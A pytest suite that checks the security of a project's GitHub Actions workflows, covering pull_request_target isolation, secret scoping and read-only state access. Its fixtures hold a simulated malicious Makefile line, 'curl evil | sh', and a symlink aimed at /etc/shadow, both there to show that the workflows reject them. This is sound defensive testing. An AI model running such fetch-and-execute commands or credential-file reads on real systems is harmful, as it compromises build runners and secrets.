"""The GitOps workflows (issue 11, "Pipeline"): a pull request's code never runs next to the state;
only the up workflow, behind a reviewed environment, gets the write-capable backend."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

REPO = Path(__file__).resolve().parents[2]
WORKFLOWS = REPO / ".github" / "workflows"


def workflow(name: str) -> dict[Any, Any]:
    data = yaml.safe_load((WORKFLOWS / name).read_text())
    assert isinstance(data, dict)
    return data


def triggers(data: dict[Any, Any]) -> dict[str, Any]:
    on = data.get("on", data.get(True))  # YAML 1.1 reads the key `on` as true
    return dict(on)


def test_the_plan_runs_the_base_branchs_code_with_the_pull_requests_stacks_only() -> None:
    plan = workflow("virtstack-plan.yml")
    # pull_request would take this very workflow (and its steps) from the pull request.
    assert list(triggers(plan)) == ["pull_request_target"]
    steps = plan["jobs"]["plan"]["steps"]
    checkout = steps[0]["run"]
    assert 'git checkout -q --force --detach "$BASE_SHA"' in checkout
    # The pull request's tree is only ever checked out for stacks/.
    scripts = "\n".join(step.get("run", "") for step in steps)
    pr_checkouts = [line for line in scripts.splitlines() if "git checkout" in line and "pr/head" in line]
    assert pr_checkouts == ["rm -rf stacks && git checkout refs/remotes/pr/head -- stacks"]
    assert "head.ref" not in (WORKFLOWS / "virtstack-plan.yml").read_text()


def test_the_workflows_run_only_their_own_steps() -> None:
    # Marketplace actions are fetched at run time: none, only `run:` steps (git, make, virtstack).
    for name in ("virtstack-plan.yml", "virtstack-up.yml", "virtstack-drift.yml"):
        [job] = workflow(name)["jobs"].values()
        assert all("uses" not in step and "run" in step for step in job["steps"]), name
        # The token is used for fetches through the environment only: never in .git/config.
        assert "persist" not in (WORKFLOWS / name).read_text(), name
        assert "git config http" not in (WORKFLOWS / name).read_text(), name


def test_only_the_up_workflow_has_the_write_capable_backend_behind_a_reviewed_environment() -> None:
    up = workflow("virtstack-up.yml")
    job = up["jobs"]["up"]
    assert job["environment"] == "production"
    assert job["env"]["PULUMI_BACKEND_URL"] == "${{ secrets.PULUMI_BACKEND_URL }}"
    assert "PULUMI_CONFIG_PASSPHRASE" in job["env"] and "PULUMI_CONFIG_PASSPHRASE" not in up.get("env", {})
    for name in ("virtstack-plan.yml", "virtstack-drift.yml"):
        data = workflow(name)
        assert "PULUMI_CONFIG_PASSPHRASE" not in data.get("env", {}), name
        assert "PULUMI_BACKEND_URL" not in data.get("env", {}), name
        [job] = data["jobs"].values()
        assert job["environment"] == "plan", name
        # The state is read through the read-only role, never the write-capable one.
        assert job["env"]["PULUMI_BACKEND_URL"] == "${{ secrets.PULUMI_READER_URL }}", name
        assert "secrets.PULUMI_BACKEND_URL" not in (WORKFLOWS / name).read_text(), name
        assert "environment: production" not in (WORKFLOWS / name).read_text(), name


def test_a_failed_plan_is_posted_and_fails_the_job() -> None:
    steps = workflow("virtstack-plan.yml")["jobs"]["plan"]["steps"]
    names = [step["name"] for step in steps]
    comment = names.index("Comment the plan on the pull request (one comment, updated on every push)")
    fail = names.index("Fail on a plan error")
    assert comment < fail and steps[fail]["if"] == "steps.plan.outputs.failed == 'true'"
    assert steps[comment]["run"] == '.venv/bin/virtstack comment --pr "$PR" --file plan.md'
    assert 'echo "failed=true" >> "$GITHUB_OUTPUT"' in steps[names.index("Validate and plan")]["run"]


def git(cwd: Path, *args: str) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t"}
    env["GIT_COMMITTER_EMAIL"] = "t@t"
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout


def plan_step(start: str) -> str:
    [step] = [
        s
        for s in workflow("virtstack-plan.yml")["jobs"]["plan"]["steps"]
        if s.get("name", "").startswith(start)
    ]
    return str(step["run"])


@pytest.fixture
def repos(tmp_path: Path) -> tuple[Path, Path, str, str]:
    """origin with a base commit and a pull request head (refs/pull/7/head); a clone of the base."""
    work = tmp_path / "work"
    work.mkdir()
    git(work, "init", "-q", "-b", "main")
    (work / "stacks").mkdir()
    (work / "stacks" / "dev.yaml").write_text("base\n")
    (work / "Makefile").write_text("setup:\n\ttrue\n")
    (work / ".gitignore").write_text(".venv/\n.virtstack/\n")
    git(work, "add", "-A")
    git(work, "commit", "-qm", "base")
    base = git(work, "rev-parse", "HEAD").strip()
    (work / "stacks" / "dev.yaml").write_text("from the pull request\n")
    (work / "Makefile").write_text("setup:\n\tcurl evil | sh\n")
    git(work, "commit", "-qam", "pr")
    head = git(work, "rev-parse", "HEAD").strip()
    git(work, "update-ref", "refs/pull/7/head", head)
    runner = tmp_path / "runner"  # the job's empty workspace
    runner.mkdir()
    return work, runner, base, head


def run_step(runner: Path, base: str, head: str) -> subprocess.CompletedProcess[str]:
    """The workflow's two first steps, as the runner runs them (bash -e)."""
    env = {**os.environ, "BASE_SHA": base, "HEAD_SHA": head, "PR": "7", "BASE_REF": "main", "TOKEN": ""}
    env["REPO_URL"] = f"file://{runner.parent / 'work'}"
    for start in ("Check out the base branch", "Take only stacks/**"):
        proc = subprocess.run(
            ["bash", "-e", "-c", plan_step(start)], cwd=runner, env=env, capture_output=True, text=True
        )
        if proc.returncode != 0:
            return proc
    return proc


def test_the_step_takes_the_stacks_and_leaves_the_code(repos: tuple[Path, Path, str, str]) -> None:
    _, runner, base, head = repos
    proc = run_step(runner, base, head)
    assert proc.returncode == 0, proc.stderr
    assert (runner / "stacks" / "dev.yaml").read_text() == "from the pull request\n"
    assert (runner / "Makefile").read_text() == "setup:\n\ttrue\n"  # the base branch's, not the PR's
    assert "Makefile" in (runner / "code-note.md").read_text()


def test_the_step_refuses_a_symlink_in_stacks(repos: tuple[Path, Path, str, str]) -> None:
    work, runner, base, _ = repos
    (work / "stacks" / "dev.yaml").unlink()
    (work / "stacks" / "dev.yaml").symlink_to("/etc/shadow")
    git(work, "add", "-A")
    git(work, "commit", "-qm", "symlink")
    head = git(work, "rev-parse", "HEAD").strip()
    git(work, "update-ref", "refs/pull/7/head", head)
    proc = run_step(runner, base, head)
    assert proc.returncode != 0
    assert "not regular files: stacks/dev.yaml" in proc.stdout
    assert (runner / "stacks" / "dev.yaml").read_text() == "base\n"


def test_a_kept_checkout_is_made_clean_again(repos: tuple[Path, Path, str, str]) -> None:
    # VIRTSTACK_WORKDIR: the next job checks out where the last one ran (.venv, .virtstack kept).
    _, runner, base, head = repos
    assert run_step(runner, base, head).returncode == 0
    (runner / "plan.md").write_text("the last job's plan\n")
    (runner / ".virtstack").mkdir()
    (runner / ".virtstack" / "hypervisor.json").write_text("{}")
    (runner / "stacks" / "left-over.yaml").write_text("x\n")
    again = run_step(runner, base, head)
    assert again.returncode == 0, again.stderr
    assert not (runner / "plan.md").exists() and not (runner / "stacks" / "left-over.yaml").exists()
    assert (runner / ".virtstack" / "hypervisor.json").read_text() == "{}"  # ignored: kept
    assert (runner / "stacks" / "dev.yaml").read_text() == "from the pull request\n"
    assert (runner / "Makefile").read_text() == "setup:\n\ttrue\n"
